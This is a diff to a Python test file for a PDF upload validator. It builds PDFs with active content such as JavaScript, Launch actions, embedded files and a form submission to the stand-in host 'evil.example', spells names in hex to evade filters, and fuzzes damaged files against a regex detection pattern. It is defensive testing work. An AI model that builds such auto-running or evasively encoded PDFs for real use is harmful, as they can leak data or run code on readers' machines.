@@ -1,7 +1,10 @@
 """What people hand in is known by its content, is small enough and starts nothing by itself."""
 
+import random
+import re
 import struct
 import zlib
+from collections import Counter
 from io import BytesIO
 
 import pikepdf
@@ -178,3 +181,87 @@ def test_a_small_pdf_that_unpacks_to_a_large_one_is_left_packed_and_refused(asha
 
     with pytest.raises(refusals.FileBroken):
         keep(bomb(2 * papers.MOST_UNPACKED), asha)
+
+
+def _rich_media(paper):
+    paper.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia, EF="x")])
+
+
+ACTIVE = {
+    "a script when it is opened": _javascript,
+    "a program to start": _launch,
+    "an attachment": _attachment,
+    "a script on a page": _when_opened,
+    "a form of scripts": _form,
+    "a link to a script": _link(S=pikepdf.Name.JavaScript, JS="app.alert(1)"),
+    "a form sent elsewhere": _link(S=pikepdf.Name.SubmitForm, F="http://evil.example"),
+    "data taken from elsewhere": _link(S=pikepdf.Name.ImportData, F="data.fdf"),
+    "a script after a leap": _link(S=pikepdf.Name.GoTo, Next=AFTERWARDS),
+    "a film": _rich_media,
+}
+WRITTEN = {
+    "as usual": {},
+    "objects packed together": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
+    "objects apart": {"object_stream_mode": pikepdf.ObjectStreamMode.disable},
+    "for the web": {"linearize": True},
+    "to be read by people": {"qdf": True},
+    "nothing packed": {"compress_streams": False},
+}
+
+
+@pytest.mark.parametrize("written", WRITTEN)
+@pytest.mark.parametrize("active", ACTIVE)
+def test_whatever_runs_by_itself_is_refused_however_it_is_written(active, written):
+    """T-I8: sixty of them, and each with its names spelt in numbers."""
+    content = pdf(change=ACTIVE[active], **WRITTEN[written])
+    spelt = content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/Launch", b"/L#61unch")
+
+    for one in (content, spelt):
+        with pytest.raises(refusals.FileNotPlain):
+            papers.check(one, name="paper.pdf")
+        with pytest.raises(refusals.FileNotPlain):
+            papers.written_anew(one, name="paper.pdf")
+
+
+REFUSED = (refusals.FileNotPlain, refusals.FileBroken, refusals.FileLocked, refusals.TooManyPages)
+RUNS_BY_ITSELF = re.compile(
+    rb"/S\s*/(?:JavaScript|Launch|SubmitForm|ImportData)\b"
+    rb"|/(?:JS|JavaScript|EF|EmbeddedFiles|AA|XFA|OpenAction)[\s/<(\[]"
+)
+
+
+def mutated(content: bytes, chance: random.Random) -> bytes:
+    """Return the content with one to eight places overwritten, taken out or doubled."""
+    changed = bytearray(content)
+    for _ in range(chance.randint(1, 8)):
+        at, long = chance.randrange(len(changed)), chance.randint(1, 12)
+        changed[at : at + long] = chance.choice(
+            (chance.randbytes(long), b"", changed[at : at + long] * 2, b"<<>>", b"endobj", b"0 0 R")
+        )
+    return bytes(changed)
+
+
+def test_five_hundred_damaged_papers_are_refused_or_plain():
+    """T-I8: nothing breaks but by name, and what is taken runs nothing when it is written anew."""
+    chance, taken, refused = random.Random(8), 0, Counter()
+    samples = [
+        pdf(change=change, **how)
+        for change in (*[None] * len(ACTIVE), *ACTIVE.values())
+        for how in (WRITTEN["objects apart"], WRITTEN["objects packed together"])
+    ]
+    for _ in range(500):
+        content = mutated(chance.choice(samples), chance)
+        try:
+            anew = papers.written_anew(content, name="paper.pdf")
+        except REFUSED as refusal:
+            refused[refusal.name] += 1
+            continue
+        taken += 1
+        with pikepdf.open(BytesIO(anew)) as paper:
+            apart = BytesIO()
+            paper.save(apart, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
+        assert RUNS_BY_ITSELF.findall(apart.getvalue()) == []
+
+    assert taken > 20
+    assert refused["FileNotPlain"] > 30
+    assert refused["FileBroken"] > 5
